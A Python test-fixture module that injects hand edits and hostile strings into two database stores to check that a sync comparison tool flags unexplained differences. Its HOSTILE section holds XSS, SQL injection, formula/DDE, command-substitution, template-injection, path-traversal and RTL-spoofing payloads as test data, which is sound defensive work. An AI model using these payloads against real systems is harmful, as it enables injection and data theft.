"""Edits by hand and by strangers, valid and hostile: nothing but the values tells of them, so no cause is named."""

from __future__ import annotations

from contracts.vocabulary import Cause, StoreName
from storage.local.faults.model import Fault, Statement
from storage.local.faults.words import (
    NO_TITLE_IN_BODY,
    PRISMA,
    SUPABASE,
    differs,
    in_body,
    text_in_body,
    update,
    update_both,
)

_HAND = "somebody edited one store by hand"
_HOSTILE = "texts come from strangers"
_UUID = "'5f0c1b52-7a1d-4c7e-9b1e-2f6a8d3c4b5a'"


def _edit(
    name: str,
    title: str,
    change: Statement,
    fields: str,
    *,
    where: str = "true",
    breaks: str = "",
    before: tuple[Statement, ...] = (),
    origin: str = _HAND,
    rows: int = 2,
) -> Fault:
    return Fault(
        id=name,
        title=title,
        origin=origin,
        rows=rows,
        where=where,
        inject=(*before, change),
        expects=differs(Cause.UNEXPLAINED, fields=fields, breaks=breaks, on=change.store),
    )


_KEYWORDS = in_body("keywords", '\'["rain", "neon"]\'')

_EXCHANGE = Statement(
    store=SUPABASE,
    sql="UPDATE public.planning p SET title = o.title FROM public.planning o "
    "WHERE p.id = ANY(%(keys)s::uuid[]) AND o.id = ANY(%(keys)s::uuid[]) AND o.id <> p.id",
)
_IN_ONE_RANGE = (
    "id IN (SELECT unnest(ids) FROM (SELECT (array_agg(id ORDER BY id))[1:2] AS ids FROM (SELECT min(id) AS id, title "
    "FROM public.planning GROUP BY left(id, 2), title) AS titles GROUP BY left(id, 2) HAVING count(*) >= 2 "
    "ORDER BY left(id, 2) LIMIT 1) AS neighbours)"
)

ROGUE = (
    _edit(
        "titles_exchanged_supabase",
        "Two records of one range of keys have exchanged their titles on supabase, so that sums over titles are equal.",
        _EXCHANGE,
        "title",
        where=_IN_ONE_RANGE,
        origin="a join or a form mixed two records up",
    ),
    _edit(
        "rogue_title_supabase",
        "A title is another one on supabase.",
        update(SUPABASE, "title = 'Renamed by hand'"),
        "title",
    ),
    _edit(
        "rogue_title_prisma",
        "A title is another one on prisma; the content has none to compare it with.",
        update(PRISMA, "title = 'Renamed by hand'"),
        "title",
        where=NO_TITLE_IN_BODY,
    ),
    _edit(
        "rogue_story_prisma",
        "The story in the content is another one on prisma.",
        update(PRISMA, text_in_body("story", "'다른 이야기'")),
        "content.story",
        where="type = 'scenario'",
    ),
    _edit(
        "rogue_duration_supabase",
        "The duration in the content is another one on supabase.",
        update(SUPABASE, in_body("durationSec", "'77'")),
        "content.durationSec",
        where="content ? 'durationSec'",
    ),
    _edit(
        "rogue_list_item_supabase",
        "The second keyword is another one on supabase.",
        update(SUPABASE, in_body("keywords,1", "'\"fog\"'")),
        "content.keywords.1",
        where="type = 'prompt'",
        before=update_both(_KEYWORDS),
    ),
    _edit(
        "rogue_list_longer_prisma",
        "There is a third keyword on prisma.",
        update(PRISMA, in_body("keywords,2", "'\"fog\"'")),
        "content.keywords.2",
        where="type = 'prompt'",
        before=update_both(_KEYWORDS),
    ),
    _edit(
        "rogue_field_removed_supabase",
        "The tone is gone from the content on supabase.",
        update(SUPABASE, "content = content - 'tone'"),
        "content.tone",
        where="type = 'scenario' AND content ? 'tone'",
    ),
    _edit(
        "rogue_field_null_prisma",
        "The tone in the content is null on prisma.",
        update(PRISMA, in_body("tone", "'null'")),
        "content.tone",
        where="type = 'scenario' AND content ? 'tone'",
        breaks="content_valid",
    ),
    _edit(
        "rogue_author_supabase",
        "The author in the metadata is another one on supabase.",
        update(SUPABASE, "metadata = jsonb_set(metadata, '{author}', '\"somebody else\"')"),
        "metadata.author",
        where="metadata ? 'author'",
    ),
    _edit(
        "rogue_metadata_json_null_supabase",
        "The metadata are NULL on prisma and the JSON null on supabase.",
        update(SUPABASE, "metadata = 'null'"),
        "metadata",
        where="metadata IS NULL",
        breaks="metadata_valid",
        origin="two kinds of null in a JSON column",
    ),
    _edit(
        "rogue_owner_supabase",
        "The owner is another user on supabase.",
        update(SUPABASE, f"user_id = {_UUID}"),
        "user_id",
        where="user_id IS NOT NULL",
    ),
    _edit(
        "rogue_owner_prisma",
        "The owner is another user on prisma.",
        update(PRISMA, f"user_id = {_UUID}"),
        "user_id",
        where="user_id IS NOT NULL",
    ),
    _edit(
        "rogue_project_prisma",
        "The project is another one on prisma.",
        update(PRISMA, f"project_id = {_UUID}"),
        "project_id",
        where="project_id IS NOT NULL",
    ),
    _edit(
        "rogue_source_supabase",
        "The source is another one on supabase.",
        update(SUPABASE, "source = 'manual'"),
        "source",
        where="source IS NOT NULL",
    ),
    _edit(
        "rogue_storage_prisma",
        "The storage notes say otherwise on prisma.",
        update(PRISMA, "storage = jsonb_set(storage, '{prisma,saved}', 'false')"),
        "storage.prisma.saved",
        where="storage IS NOT NULL",
    ),
    _edit(
        "rogue_type_supabase",
        "The type is another one on supabase: a video became an image.",
        update(SUPABASE, "type = 'image'"),
        "type",
        where="type = 'video' AND NOT content ?| '{videoUrl,processingJobId}'",
        breaks="content_type_matches",
    ),
    _edit(
        "rogue_type_unknown_prisma",
        "The type is `podcast` on prisma, which no vocabulary knows.",
        update(PRISMA, "type = 'podcast'"),
        "type",
        breaks="type_known content_type_matches",
    ),
    _edit(
        "rogue_body_id_supabase",
        "The id inside the content is that of another record on supabase.",
        update(SUPABASE, text_in_body("id", _UUID)),
        "content.id",
        breaks="content_id_matches",
    ),
    _edit(
        "rogue_body_replaced_prisma",
        "The content on prisma is an empty list.",
        update(PRISMA, "content = '[]'"),
        "content",
        breaks="content_is_object",
    ),
    _edit(
        "rogue_field_added_supabase",
        "The content on supabase has a field that no type knows.",
        update(SUPABASE, in_body("projectId", f"to_jsonb({_UUID}::text)")),
        "content.projectId",
        breaks="content_valid",
    ),
)
"""Valid and invalid edits of one store."""

_STRINGS = (
    ("script", "a script element", "'<script>alert(1)</script>'"),
    ("attribute", "the end of an attribute and an image with a handler", """'"><img src=x onerror=alert(1)>'"""),
    ("ansi", "escape codes of a terminal", r"E'\x1b[2J\x1b[31mowned\x1b[0m\x07'"),
    ("formula", "a spreadsheet formula", """'=HYPERLINK("https://example.invalid/?"&A1,"open")'"""),
    ("formula_plus", "a spreadsheet formula that begins with a tab and a plus sign", r"E'\t+cmd|'' /C calc''!A0'"),
    ("rtl", "marks that turn the direction of reading", r"E'invoice\u202Egnp.exe\u2066\u200F'"),
    ("template", "the braces of templates and a shell command", "'{{ 7*7 }} {%% raw %%} ${IFS} $(id) `id`'"),
    ("markdown", "a Markdown table row with a link", r"E'| a | [x](javascript:alert(1)) |\n|---|'"),
    ("xml", "the end of a CDATA section and a null entity", """']]><failure message="&#0;">'"""),
    ("marks", "a letter with four hundred combining marks", r"'a' || repeat(E'\u0301', 400)"),
    ("separators", "line and paragraph separators", r"E'one\u2028two\u2029three\u0085four'"),
    ("path", "a path that leaves its folder", "'../../../../etc/passwd'"),
    ("quotes", "quotes and comments of SQL", """'''; DROP TABLE planning; --" /*'"""),
)


def _hostile_title(name: str, words: str, value: str) -> Fault:
    return _edit(
        f"hostile_{name}_title_supabase",
        f"A title on supabase holds {words}.",
        update(SUPABASE, f"title = {value}"),
        "title",
        origin=_HOSTILE,
        rows=1,
    )


def _hostile_body(name: str, words: str, value: str) -> Fault:
    return _edit(
        f"hostile_{name}_body_prisma",
        f"A text inside the content on prisma holds {words}.",
        update(PRISMA, text_in_body("finalPrompt", value)),
        "content.finalPrompt",
        where="type = 'prompt'",
        origin=_HOSTILE,
        rows=1,
    )


def _hostile_column(column: str, store: StoreName) -> Fault:
    return _edit(
        f"hostile_{column}_{store}",
        f"The {column} on {store} holds a script element.",
        update(store, f"{column} = '<script>alert(1)</script>'"),
        column,
        where=f"{column} IS NOT NULL",
        origin=_HOSTILE,
        rows=1,
    )


HOSTILE = (
    *(_hostile_title(*string) for string in _STRINGS),
    *(_hostile_body(*string) for string in _STRINGS),
    _hostile_column("source", PRISMA),
    _edit(
        "hostile_author_supabase",
        "The author in the metadata on supabase holds a script element.",
        update(SUPABASE, "metadata = jsonb_set(metadata, '{author}', '\"<script>alert(1)</script>\"')"),
        "metadata.author",
        where="metadata ? 'author'",
        origin=_HOSTILE,
        rows=1,
    ),
    _edit(
        "hostile_key_supabase",
        "A key of the storage notes on supabase is a drawing with a handler.",
        update(SUPABASE, "storage = jsonb_set(storage, '{<svg/onload=alert(1)>}', '1')"),
        "storage.<svg/onload=alert(1)>",
        where="storage IS NOT NULL",
        origin=_HOSTILE,
        rows=1,
    ),
    _edit(
        "hostile_megabyte_prisma",
        "A text inside the content on prisma is one megabyte long.",
        update(PRISMA, text_in_body("finalPrompt", "repeat('<b>크다</b> ', 80000)")),
        "content.finalPrompt",
        where="type = 'prompt'",
        origin=_HOSTILE,
        rows=1,
    ),
)
"""Texts that try to be something else where they are shown."""
